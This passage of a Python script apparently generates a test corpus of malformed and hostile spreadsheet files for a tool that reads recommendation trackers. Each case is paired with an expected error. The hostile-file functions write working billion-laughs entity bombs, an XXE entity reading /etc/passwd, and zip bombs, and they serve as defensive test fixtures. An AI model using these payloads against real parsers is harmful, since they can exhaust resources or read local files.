    ods("tracker.ods", {"Tracker": ods_rows, "Old": hidden_rows}, hidden={"Old"})
    case("tracker.ods", "force", "ok", items=3,
         checks="status@Tracker!4=Amber;status@Old!2=Red;note~read from .ods;note~hidden sheet",
         why="OpenDocument spreadsheet, read with python-calamine")


def ods(name: str, sheets: dict[str, list[list[Any]]], hidden: set[str] = frozenset(),
        doctype: str = "") -> Path:
    """A minimal OpenDocument spreadsheet, written by hand (no library needed)."""
    from xml.sax.saxutils import escape

    tables = []
    for sheet, rows in sheets.items():
        style = ' table:style-name="hide"' if sheet in hidden else ""
        cells_xml = []
        for row in rows:
            cells = "".join(
                '<table:table-cell/>' if v is None else
                f'<table:table-cell office:value-type="float" office:value="{v}"><text:p>{v}'
                "</text:p></table:table-cell>" if isinstance(v, (int, float)) else
                f'<table:table-cell office:value-type="string"><text:p>{escape(str(v))}</text:p>'
                "</table:table-cell>" for v in row)
            cells_xml.append(f"<table:table-row>{cells or '<table:table-cell/>'}</table:table-row>")
        tables.append(f'<table:table table:name="{escape(sheet)}"{style}>{"".join(cells_xml)}'
                      "</table:table>")
    ns = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"')
    content = (f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<office:document-content {ns} '
               'office:version="1.2"><office:automatic-styles><style:style style:name="hide" '
               'style:family="table"><style:table-properties table:display="false"/>'
               "</style:style></office:automatic-styles><office:body><office:spreadsheet>"
               f'{"".join(tables)}</office:spreadsheet></office:body></office:document-content>')
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
                '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
                '<manifest:file-entry manifest:full-path="/" manifest:media-type='
                '"application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
                'manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                "</manifest:manifest>")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(zipfile.ZipInfo("mimetype", FIXED_TIME),
                    "application/vnd.oasis.opendocument.spreadsheet")
        for part, data in (("content.xml", content), ("META-INF/manifest.xml", manifest)):
            info = zipfile.ZipInfo(part, FIXED_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    return raw(name, buf.getvalue())


# --------------------------------------------------------------------------- bad files


def cfb(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE2 compound file (512-byte sectors, streams >= 4096 bytes, one FAT sector)."""
    sector = 512
    body, fat, starts = b"", [], {}
    dir_sector = 1  # sector 0 holds the FAT, sector 1 the directory
    fat = [0xFFFFFFFD, 0xFFFFFFFE]
    next_sector = 2
    for name, data in streams.items():
        data = data.ljust(max(4096, -(-len(data) // sector) * sector), b"\0")
        n = len(data) // sector
        starts[name] = (next_sector, len(data))
        fat += [next_sector + i + 1 for i in range(n - 1)] + [0xFFFFFFFE]
        next_sector += n
        body += data
    assert len(fat) <= 128 and len(streams) <= 3
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat).ljust(sector, b"\xff")

    def entry(name: str, kind: int, start: int, size: int, child: int = 0xFFFFFFFF,
              right: int = 0xFFFFFFFF) -> bytes:
        encoded = (name + "\0").encode("utf-16-le")
        return (encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)
                + struct.pack("<III", 0xFFFFFFFF, right, child) + b"\0" * 36
                + struct.pack("<IQ", start, size))

    names = list(streams)
    entries = [entry("Root Entry", 5, 0xFFFFFFFE, 0, child=1)]
    for i, name in enumerate(names, start=1):
        entries.append(entry(name, 2, *starts[name], right=i + 1 if i < len(names) else 0xFFFFFFFF))
    directory = b"".join(entries).ljust(sector, b"\0")
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
              + struct.pack("<HHHH", 0x3E, 3, 0xFFFE, 9) + struct.pack("<H", 6) + b"\0" * 6
              + struct.pack("<IIIIIIII", 0, 1, dir_sector, 0, 4096, 0xFFFFFFFE, 0,
                            0xFFFFFFFE) + struct.pack("<I", 0))
    header += struct.pack("<109I", 0, *([0xFFFFFFFF] * 108))
    assert len(header) == 512
    return header + fat_bytes + directory + body


def _workbook_bytes(rows: list[list[Any]]) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    for row in rows:
        wb.active.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return _fixed(buf.getvalue())


LAUGHS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE lolz [\n'
          '<!ENTITY lol "lol">\n'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
                    for i in range(1, 10))
          + "]>\n")


def hostile_xlsx() -> None:
    """XML entity bombs and an external entity inside real-looking workbooks."""
    path = xlsx("billion_laughs_sheet.xlsx", {"Tracker": [["Recommendation", "Status"],
                                                          [INTEL, "Green"]]})
    with zipfile.ZipFile(path) as zf:
        xml = zf.read("xl/worksheets/sheet1.xml").decode()
    xml = xml.replace('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', "")
    xml = LAUGHS + re.sub(r"<t>Green</t>", "<t>&lol9;</t>", xml.lstrip())
    _zip_rewrite(path, edit={"xl/worksheets/sheet1.xml": xml.encode()})
    case("billion_laughs_sheet.xlsx", "force", "error", message="declares XML entities",
         where="xl/worksheets/sheet1.xml", why="billion laughs in the sheet XML")
    shared_strings(xlsx("billion_laughs_shared_strings.xlsx", {"Tracker": [
        ["Recommendation", "Status"], [INTEL, "Green"]]}), LAUGHS, "&lol9;")
    case("billion_laughs_shared_strings.xlsx", "force", "error", message="declares XML entities",
         where="xl/sharedStrings.xml", why="billion laughs in the shared strings")
    shared_strings(xlsx("external_entity.xlsx", {"Tracker": [
        ["Recommendation", "Status"], [INTEL, "Green"]]}),
        '<?xml version="1.0"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
        "&xxe;")
    case("external_entity.xlsx", "force", "error", message="declares XML entities",
         where="xl/sharedStrings.xml", why="an external entity reading a local file (XXE)")
    ods("billion_laughs.ods", {"Tracker": [["Recommendation", "Status"], [INTEL, "&lol9;"]]},
        doctype=LAUGHS.split("\n", 1)[1])
    data = (FILES / "billion_laughs.ods").read_bytes()
    case("billion_laughs.ods", "force", "error", message="declares XML entities",
         where="content.xml", why="billion laughs in an OpenDocument spreadsheet")
    assert b"mimetype" in data


def shared_strings(path: Path, prolog: str, payload: str) -> None:
    """Move a cell's text into a sharedStrings part that starts with `prolog`."""
    with zipfile.ZipFile(path) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
        rels = zf.read("xl/_rels/workbook.xml.rels").decode()
        types = zf.read("[Content_Types].xml").decode()
    sheet = sheet.replace('<c r="B2" t="inlineStr"><is><t>Green</t></is></c>',
                          '<c r="B2" t="s"><v>0</v></c>')
    sst = (prolog + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
           f'count="1" uniqueCount="1"><si><t>{payload}</t></si></sst>')
    rels = rels.replace("</Relationships>", '<Relationship Id="rIdSST" Type="http://schemas.'
                        'openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
                        'Target="sharedStrings.xml"/></Relationships>')
    types = types.replace("</Types>", '<Override PartName="/xl/sharedStrings.xml" ContentType='
                          '"application/vnd.openxmlformats-officedocument.spreadsheetml.'
                          'sharedStrings+xml"/></Types>')
    _zip_rewrite(path, edit={"xl/worksheets/sheet1.xml": sheet.encode(),
                             "xl/_rels/workbook.xml.rels": rels.encode(),
                             "[Content_Types].xml": types.encode()},
                 add={"xl/sharedStrings.xml": sst.encode()})


def zip_bombs() -> None:
    path = xlsx("zip_bomb.xlsx", {"Tracker": [["Recommendation", "Status"], [INTEL, "Green"]]})
    with zipfile.ZipFile(path) as zf:
        xml = zf.read("xl/worksheets/sheet1.xml")
    padded = xml.replace(b"<sheetData>", b"<sheetData>" + b" " * (40 * 1024 * 1024), 1)
    buf = io.BytesIO()
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(buf, "w") as out:
        for info in src.infolist():
            new = zipfile.ZipInfo(info.filename, FIXED_TIME)
            new.compress_type = zipfile.ZIP_DEFLATED
            data = padded if info.filename == "xl/worksheets/sheet1.xml" else src.read(info)
            out.writestr(new, data, compresslevel=9)
    path.write_bytes(buf.getvalue())
    case("zip_bomb.xlsx", "force", "error", message="that is how a zip bomb looks",
         where="xl/worksheets/sheet1.xml", why="a sheet part that expands 1,000 times to 40 MB")
    data = bytearray(_workbook_bytes([["Recommendation", "Status"], [INTEL, "Green"]]))
    # Claim 3.9 GB for one part in the central directory (what any reader trusts).
    at = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 24, 0xF0000000)
    raw("zip_declared_huge.xlsx", bytes(data))
    case("zip_declared_huge.xlsx", "force", "error", message="that is how a zip bomb looks",
         why="a central directory declaring 3.9 GB")
    data = bytearray(_workbook_bytes([["Recommendation", "Status"], [INTEL, "Green"]]))
    at = data.find(b"PK\x01\x02")
    while at != -1:
        struct.pack_into("<H", data, at + 8, struct.unpack_from("<H", data, at + 8)[0] | 1)
        at = data.find(b"PK\x01\x02", at + 4)
    raw("zip_encrypted_parts.xlsx", bytes(data))
    case("zip_encrypted_parts.xlsx", "force", "error", message="is encrypted",
         why="zip parts flagged as encrypted")


def bad_files() -> None:
    (FILES / "folder_named.xlsx").mkdir(exist_ok=True)
    (FILES / "folder_named.xlsx" / "README.txt").write_text(
        "A folder named like a workbook, for the corpus.\n", encoding="utf-8")
    case("folder_named.xlsx", "force", "error", message="is a folder",
         why="a folder given instead of a file")
    case("does_not_exist.xlsx", "force", "error", message="file not found",
         why="a path that does not exist")
    raw("empty.xlsx", b"")
    case("empty.xlsx", "force", "error", message="the file is empty", why="0 bytes")
    raw("empty.csv", b"")
    case("empty.csv", "hmicfrs", "error", message="the file is empty", why="0 bytes, as CSV")
    raw("pdf_renamed.xlsx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\n"
        b"endobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
    case("pdf_renamed.xlsx", "force", "error", message="is a PDF", why="a PDF renamed .xlsx")
    raw("text_renamed.xlsx", ("Recommendations tracker – see the attached spreadsheet.\r\n"
                              + INTEL + "\r\n").encode("utf-8"))
    case("text_renamed.xlsx", "force", "error", message="is not an Excel workbook",
         why="a text file renamed .xlsx")
    raw("web_page.xls", ("<html xmlns:o=\"urn:schemas-microsoft-com:office:office\">\r\n<head>"
                         "<meta name=ProgId content=Excel.Sheet></head><body><table><tr><td>"
                         f"Recommendation</td><td>Status</td></tr><tr><td>{INTEL}</td><td>Green"
                         "</td></tr></table></body></html>").encode())
    case("web_page.xls", "force", "error", message="is a web page (HTML)",
         why="an 'Excel' export that is really a web page")
    raw("excel_2003_xml.xls", (b'<?xml version="1.0"?>\r\n<?mso-application progid="Excel.Sheet"?>'
                               b'\r\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">'
                               b"<Worksheet ss:Name=\"Sheet1\"/></Workbook>"))
    case("excel_2003_xml.xls", "force", "error", message="Excel 2003 XML spreadsheet",
         why="Excel 2003 XML saved with an .xls name")
    raw("rtf_renamed.xls", b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Calibri;}} Recommendations}")
    case("rtf_renamed.xls", "force", "error", message="Rich Text", why="RTF renamed .xls")
    raw("corrupt_zip.xlsx", b"PK\x03\x04" + bytes(range(256)) * 4)
    case("corrupt_zip.xlsx", "force", "error", message="is damaged and cannot be opened",
         why="a zip header followed by garbage")
    whole = (FILES / "hidden_rows.xlsx").read_bytes()
    raw("truncated.xlsx", whole[: len(whole) * 6 // 10])
    case("truncated.xlsx", "force", "error", message="cut short",
         why="a workbook cut short by a failed download")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in (("[Content_Types].xml", "<Types/>"), ("word/document.xml",
                                                                  f"<w:document>{INTEL}</w:document>")):
            zf.writestr(zipfile.ZipInfo(name, FIXED_TIME), data)
    raw("word_renamed.xlsx", buf.getvalue())
    case("word_renamed.xlsx", "force", "error", message="is a Word document",
         why="a .docx renamed .xlsx")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(zipfile.ZipInfo("tracker.csv", FIXED_TIME), f"Recommendation,Status\n\"{INTEL}\",Green\n")
    raw("plain_zip.xlsx", buf.getvalue())
    case("plain_zip.xlsx", "force", "error", message="is a zip archive, not an Excel workbook",
         why="a zip of a CSV renamed .xlsx")
    whole = _workbook_bytes([["Recommendation", "Status"], [INTEL, "Green"]])
    buf = io.BytesIO(whole)
    with zipfile.ZipFile(buf) as zf:
        parts = {i.filename: zf.read(i) for i in zf.infolist()}
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"][:-40]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(zipfile.ZipInfo(name, FIXED_TIME), data)
    raw("malformed_sheet_xml.xlsx", out.getvalue())
    case("malformed_sheet_xml.xlsx", "force", "error", message="cannot be read as an Excel workbook",
         why="a sheet whose XML is cut off mid-element")
    info = (b"\x04\x00\x04\x00\x40\x00\x00\x00" + b"<?xml version=\"1.0\"?><encryption xmlns="
            b"\"http://schemas.microsoft.com/office/2006/encryption\"/>")
    raw("password_protected.xlsx", cfb({"EncryptionInfo": info,
                                        "EncryptedPackage": struct.pack("<Q", 9000) + bytes(5000)}))
    case("password_protected.xlsx", "force", "error", message="is password-protected",
         why="a workbook saved with a password (an OLE2 file holding EncryptedPackage)")
    raw("word97.xls", cfb({"WordDocument": b"\xec\xa5" + bytes(4094)}))
    case("word97.xls", "force", "error", message="is a Word document",
         why="an old Word document renamed .xls")
    raw("bad_bytes.csv", b"Recommendation,Status\r\n\"" + INTEL.encode() + b"\",Green\r\n"
        b"\"Within six months \x81\x8d forces should\",Amber\r\n")
    case("bad_bytes.csv", "force", "error", message="is not text in UTF-8 or Windows-1252",
         where="line 3", why="bytes that are neither UTF-8 nor Windows-1252")
    raw("utf16_no_bom.csv", f"Recommendation,Status\r\n\"{INTEL}\",Green\r\n".encode("utf-16-le"))
    case("utf16_no_bom.csv", "force", "error", message="holds binary data",
         why="UTF-16 without its BOM")
    raw("image_renamed.csv", b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9"
        b"\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
    case("image_renamed.csv", "force", "error", message="holds binary data",
         why="an image attached by mistake, named .csv")
    raw("unclosed_quote.csv", ("Recommendation,Status\r\n"
                               f"\"{INTEL}\",Green\r\n\"{NRM},Amber\r\n\"{CONTROL_ROOM}\",Red\r\n"
                               ).encode())
    case("unclosed_quote.csv", "force", "error", message="the quotes do not pair up",
         where="line 3",
         why="a quote opened and never closed")
    xlsx("no_header.xlsx", {"Sheet1": [["BTP tracker"], ["Ref", "What HMICFRS asked", "Colour"],
                                       [1, INTEL, "GREEN"]]})
    case("no_header.xlsx", "force", "error",
         message="headers seen in sheet 'Sheet1': 'Ref', 'What HMICFRS asked', 'Colour', on row "
                 "2).;[force.columns] text =",
         why="no column looks like the recommendation text: the headers seen and the config line")
    text_file("no_header.csv", [["Reference", "Wording", "Position"], [8801, INTEL, "Open"]])
    case("no_header.csv", "hmicfrs", "error",
         message="headers seen in sheet 'no_header.csv': 'Reference', 'Wording', 'Position';"
                 "[hmicfrs.columns] text =", why="the same, as CSV, for the HMICFRS list")
    xlsx("header_only.xlsx", {"Tracker": [["Tracker"], [], FORCE_HEADER]})
    case("header_only.xlsx", "force", "error", message="the header is on row 3 but no row below",
         where="sheet 'Tracker'", why="a header with nothing under it")
    xlsx("only_key_sheet.xlsx", {"Key": [["Colour", "Meaning"], ["GREEN", "Implemented"],
                                         ["AMBER", "Ongoing"]]})
    case("only_key_sheet.xlsx", "force", "error", message="no sheet has a column that looks like",
         why="the wrong workbook: only a key")
    xlsx("empty_workbook.xlsx", {"Sheet1": []})
    case("empty_workbook.xlsx", "force", "error", message="no sheet has anything in it",
         why="a workbook with no values at all")


def configs() -> None:
    (FILES / "config_typo.toml").write_text('[force.columns]\ntext = "Recommendation"\n[match]\n'
                                            "acept = 90\n", encoding="utf-8")
    case("config_typo.toml", "config", "error", message="unknown key 'acept';accept",
         why="a typo'd key names the valid ones")
    (FILES / "config_wrong_type.toml").write_text('[force.status]\ndone = "GREEN"\n[match]\n'
                                                  'review = "low"\n', encoding="utf-8")
    case("config_wrong_type.toml", "config", "error", message="review must be a number",
         why="a wrong type names the key and an example")


def main() -> None:
    FILES.mkdir(exist_ok=True)
    partners()
    btp_progress_chart()
    rag_theme_and_indexed()
    report_blocks()
    merged_and_hidden()
    formulas()
    headers_and_cells()
    hmicfrs_side()
    text_files()
    other_formats()
    hostile_xlsx()
    zip_bombs()
    bad_files()
    configs()
    with (HERE / "manifest.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(CASES[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(CASES)
    total = sum(p.stat().st_size for p in FILES.rglob("*") if p.is_file())
    print(f"{len(CASES)} cases, {total / 1024:.0f} KB in {FILES}")


if __name__ == "__main__":
    main()
